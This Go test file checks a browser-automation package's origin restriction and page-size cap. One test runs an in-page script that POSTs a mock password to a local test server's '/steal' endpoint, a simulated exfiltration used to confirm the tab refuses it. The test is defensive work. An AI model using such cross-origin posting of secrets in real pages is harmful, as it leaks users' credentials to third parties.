package browser_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/rosteron/rosteron/browser"
)

func TestOrigin(t *testing.T) {
	for raw, want := range map[string]string{
		"https://R.Example.COM:443/x?y": "https://r.example.com",
		"http://r.example.com:80/":      "http://r.example.com",
		"http://127.0.0.1:8080/a":       "http://127.0.0.1:8080",
		"https://[::1]:8443/":           "https://[::1]:8443",
		"https://[::1]/":                "https://[::1]",
	} {
		u, err := url.Parse(raw)
		require.NoError(t, err)
		assert.Equal(t, want, browser.Origin(u), raw)
	}
}

// A tab with AllowOrigins sends no document, script request or post to
// another origin, and loads static subresources from anywhere.
func TestAllowOriginsRefusesOtherOrigins(t *testing.T) {
	var mu sync.Mutex
	var seen []string
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		seen = append(seen, r.Method+" "+r.URL.Path+" "+string(body))
		mu.Unlock()
		if r.URL.Path == "/style.css" {
			w.Header().Set("Content-Type", "text/css")
			io.WriteString(w, "body { color: red }")
			return
		}
		io.WriteString(w, "<p>elsewhere</p>")
	}))
	defer other.Close()
	home := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/away":
			http.Redirect(w, r, other.URL+"/landing", http.StatusFound)
		default:
			io.WriteString(w, `<link rel="stylesheet" href="`+other.URL+`/style.css"><p>home</p>`)
		}
	}))
	defer home.Close()

	b := chrome.Get(t)
	tab, err := b.NewTab(ctxT(t), browser.AllowOrigins(home.URL))
	require.NoError(t, err)
	defer tab.Close()

	resp, err := tab.Navigate(ctxT(t), home.URL+"/")
	require.NoError(t, err)
	assert.Equal(t, 200, resp.Status)
	assert.Empty(t, tab.Refused())

	_, err = tab.Navigate(ctxT(t), home.URL+"/away")
	var oe *browser.OriginError
	require.ErrorAs(t, err, &oe)
	assert.ErrorIs(t, err, browser.ErrOtherOrigin)
	assert.Equal(t, other.URL+"/landing", oe.URL)
	assert.Contains(t, err.Error(), strings.TrimPrefix(home.URL, "http://"))
	assert.NotErrorIs(t, err, browser.ErrPageLoad, "not a network failure, so never retried")

	// A script's post is refused too; the page itself is still there. A
	// refusal ends the operation under way, so the Eval that started the
	// post fails with it when the refusal comes before its answer, which
	// is a race: either way, it fails with nothing but the refusal.
	_, err = browser.Eval[any](ctxT(t), tab, `fetch(`+"`"+other.URL+"/steal?pw=secret`"+`, {method: 'POST', mode: 'no-cors', body: 'pw=secret'}).catch(() => 0)`)
	if err != nil {
		require.ErrorIs(t, err, browser.ErrOtherOrigin)
	}
	assert.Eventually(t, func() bool { return len(tab.Refused()) == 2 }, 10*time.Second, 20*time.Millisecond)
	assert.Equal(t, other.URL+"/steal", tab.Refused()[1].URL, "the query, which may hold what was typed, is left out")

	mu.Lock()
	defer mu.Unlock()
	for _, s := range seen {
		assert.True(t, strings.HasPrefix(s, "GET /style.css"), "only the static style sheet went to the other origin: %q", s)
	}
}

// A tab with MaxPageSize reads no page larger than its cap, whether its
// size is declared or not, by Fetch or by navigating.
func TestMaxPageSize(t *testing.T) {
	const limit = 256 << 10
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		size := limit - 10
		if r.URL.Path == "/big" {
			size = limit + 10
		}
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Query().Has("declared") {
			w.Header().Set("Content-Length", strconv.Itoa(size))
		}
		for size > 0 {
			n := min(size, 32<<10)
			io.WriteString(w, strings.Repeat("x", n))
			size -= n
			w.(http.Flusher).Flush()
		}
	}))
	defer ts.Close()
	b := chrome.Get(t)
	tab, err := b.NewTab(ctxT(t), browser.MaxPageSize(limit))
	require.NoError(t, err)
	defer tab.Close()

	for _, q := range []string{"", "?declared"} {
		_, err = tab.Navigate(ctxT(t), ts.URL+"/big"+q)
		assert.ErrorIs(t, err, browser.ErrPageTooLarge, q)
		assert.ErrorContains(t, err, "larger than the 262144 bytes cap")

		_, err = tab.Navigate(ctxT(t), ts.URL+"/small"+q)
		require.NoError(t, err, q)
		doc, err := tab.Fetch(ctxT(t), ts.URL+"/small"+q)
		require.NoError(t, err, q)
		assert.Len(t, doc.Body, limit-10)
		_, err = tab.Fetch(ctxT(t), ts.URL+"/big"+q)
		assert.ErrorIs(t, err, browser.ErrPageTooLarge, q)
	}
}
